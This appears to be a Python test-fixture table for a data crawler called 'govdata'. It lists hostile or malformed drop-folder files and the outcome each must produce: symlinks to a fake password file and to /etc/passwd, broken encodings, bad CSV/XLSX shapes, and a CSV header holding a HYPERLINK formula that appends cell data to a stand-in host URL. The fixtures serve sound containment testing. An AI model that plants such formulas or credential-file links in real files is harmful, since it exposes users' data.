"""The drop-folder files a careless or hostile department sends, each with what govdata must say of it.

One table drives both the reader's unit tests and the crawl's integration test, so a new case is
one line here. ``expect`` is None for files that must be read; otherwise it is the error type the
crawl records and a fragment of the one-line message.
"""

from __future__ import annotations

import codecs
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

GOOD_ROWS = "姓名,联系电话\n张三,13800138000\n李四,13900139000\n"


@dataclass(frozen=True)
class FileCase:
    """One drop-folder entry: how to make it and what the crawl must do with it."""

    name: str
    make: Callable[[Path, Path], None]  # (entry path, a folder outside the drop folder)
    expect: tuple[str, str] | None  # (error_type, message fragment), or None: read fine
    rows: int | None = None  # rows expected when read fine


def _bytes(data: bytes) -> Callable[[Path, Path], None]:
    return lambda path, outside: path.write_bytes(data)


def _text(text: str, encoding: str) -> Callable[[Path, Path], None]:
    return lambda path, outside: path.write_bytes(text.encode(encoding))


def _link_to(target: Callable[[Path, Path], Path]) -> Callable[[Path, Path], None]:
    return lambda path, outside: os.symlink(target(path, outside), path)


def _secret(path: Path, outside: Path) -> Path:
    secret = outside / "password"
    secret.write_text("S3cr3t-PW-9f8e7d\n")
    return secret


def _outside_csv(path: Path, outside: Path) -> Path:
    target = outside / "other.csv"
    target.write_text(GOOD_ROWS, encoding="utf-8")
    return target


def _sibling(path: Path, outside: Path) -> Path:
    target = path.with_name("linked_target.csv")
    target.write_text(GOOD_ROWS, encoding="utf-8")
    return Path(target.name)  # relative, inside the folder


def _dir(path: Path, outside: Path) -> Path:
    target = outside / "a_folder"
    target.mkdir(exist_ok=True)
    return target


def _loop(path: Path, outside: Path) -> Path:
    return Path(path.name)  # a link to itself


def _xlsx(rows: list[list[object]]) -> Callable[[Path, Path], None]:
    def make(path: Path, outside: Path) -> None:
        from openpyxl import Workbook

        workbook = Workbook()
        for row in rows:
            workbook.active.append(row)
        workbook.save(path)

    return make


def _fifo(path: Path, outside: Path) -> None:
    os.mkfifo(path)


_GBK_BROKEN = "姓名,手机号\n张三,13800138000\n".encode("gbk").replace("张".encode("gbk"), b"\xd5")

FILE_CASES: list[FileCase] = [
    # containment: nothing outside the drop folder is ever read
    FileCase("link_to_password.csv", _link_to(_secret), ("refused", "outside the drop folder")),
    FileCase("link_to_outside.csv", _link_to(_outside_csv), ("refused", "outside the drop folder")),
    FileCase("link_to_etc.csv", _link_to(lambda p, o: Path("/etc/passwd")), ("refused", "outside the drop folder")),
    FileCase("link_dotdot.csv", _link_to(lambda p, o: Path("..") / o.name / "x.csv"), ("refused", "link")),
    FileCase("link_dangling.csv", _link_to(lambda p, o: o / "gone.csv"), ("refused", "does not exist")),
    FileCase("link_to_folder.csv", _link_to(_dir), ("refused", "outside the drop folder")),
    FileCase("link_loop.csv", _link_to(_loop), ("refused", "cannot be opened")),
    FileCase("link_inside.csv", _link_to(_sibling), None, rows=2),
    FileCase("pipe.csv", _fifo, None),  # not a regular file: never listed, never blocks the crawl
    # encodings: strict, never guessed
    FileCase("gbk_broken_byte.csv", _bytes(_GBK_BROKEN), ("malformed_file", "line 2, byte")),
    FileCase("latin1.csv", _text("name,city\nJosé,Málaga\n", "latin-1"), ("malformed_file", "UTF-8")),
    FileCase("binary.csv", _bytes(bytes(range(256)) * 4), ("malformed_file", "NUL")),
    FileCase("nul_in_utf8.csv", _bytes(codecs.BOM_UTF8 + b"a,b\n1,\x002\n"), ("malformed_file", "NUL")),
    FileCase("utf16le_nobom.csv", _text(GOOD_ROWS, "utf-16-le"), None, rows=2),
    FileCase("utf16be_nobom.csv", _text(GOOD_ROWS, "utf-16-be"), None, rows=2),
    FileCase("utf16_bom.csv", _text(GOOD_ROWS, "utf-16"), None, rows=2),
    FileCase("utf8_bom.csv", _text(GOOD_ROWS, "utf-8-sig"), None, rows=2),
    FileCase("gbk.csv", _text(GOOD_ROWS, "gbk"), None, rows=2),
    FileCase("gb18030_4byte.csv", _text("姓名,备注\n㐀㐁,𠀀\n", "gb18030"), None, rows=1),
    FileCase("utf8_4byte.csv", _text("姓名,备注\n𠀀𠀁,😀\n", "utf-8"), None, rows=1),
    # shapes the csv module or the reader used to choke on
    FileCase("huge_field.csv", _text("姓名,备注\n张三," + "长" * 300_000 + "\n", "utf-8"), None, rows=1),
    FileCase("empty.csv", _bytes(b""), ("malformed_file", "file is empty")),
    FileCase("blank.csv", _bytes(b"\n\n  \n"), ("malformed_file", "file is empty")),
    FileCase("ragged.csv", _text("a,b\n1,2,3\n4\n", "utf-8"), ("malformed_file", "malformed rows")),
    FileCase("dup_header.csv", _text("姓名,姓名\n1,2\n", "utf-8"), ("malformed_file", "duplicate column")),
    FileCase("header_only.csv", _text("姓名,联系电话\n", "utf-8"), None, rows=0),
    FileCase("tabs.txt", _text("姓名\t联系电话\n张三\t13800138000\n", "utf-8"), None, rows=1),
    FileCase("formula_header.csv", _text('=HYPERLINK("http://x.example/"&A1;"点我"),b\n1,2\n', "utf-8"), None, rows=1),
    FileCase("broken.xlsx", _bytes(b"PK\x03\x04 not really a zip"), ("malformed_file", "not a readable XLSX")),
    FileCase("not_zip.xlsx", _bytes(b"plain text"), ("malformed_file", "not a readable XLSX")),
    FileCase("beyond_header.xlsx", _xlsx([["a", "b"], [1, 2, 3]]), ("malformed_file", "beyond the header")),
    FileCase("good.xlsx", _xlsx([["姓名", "联系电话"], ["张三", "13800138000"]]), None, rows=1),
    FileCase("legacy.xls", _bytes(b"\xd0\xcf\x11\xe0 old excel"), ("unsupported_file", "unsupported file type")),
    FileCase("notes.docx", _bytes(b"PK\x03\x04"), ("unsupported_file", "unsupported file type")),
    FileCase("~$lock.xlsx", _bytes(b"owner"), None),  # an open workbook's lock file: skipped
    FileCase(".hidden.csv", _text(GOOD_ROWS, "utf-8"), None),  # hidden: skipped
]

#: Secret and formula text that must never show up in exports, logs or messages.
LEAK_MARKERS = ("S3cr3t-PW-9f8e7d",)
